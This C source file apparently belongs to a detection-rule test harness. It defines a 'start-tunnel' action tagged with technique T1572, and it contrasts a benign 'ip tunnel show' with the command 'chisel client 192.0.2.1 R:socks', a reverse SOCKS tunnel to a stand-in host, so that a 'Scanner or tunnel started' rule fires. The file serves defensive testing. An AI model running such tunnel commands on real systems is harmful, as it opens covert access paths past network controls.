/* SPDX-License-Identifier: Apache-2.0 */
#include "../act.h"

static void run(bool innocent)
{
	run_as(innocent ? "ip tunnel show" : "chisel client 192.0.2.1 R:socks", "nothing", "");
}

ACT("start-tunnel", .does = "a program starts under the name of a tunnel",
    .innocent = "ip shows the node's own tunnels", .rule = "Scanner or tunnel started",
    .technique = "T1572", .needs = NEED_ROOT,
    .shows = {"proc.cmdline=chisel client 192.0.2.1 R:socks"}, .run = run);
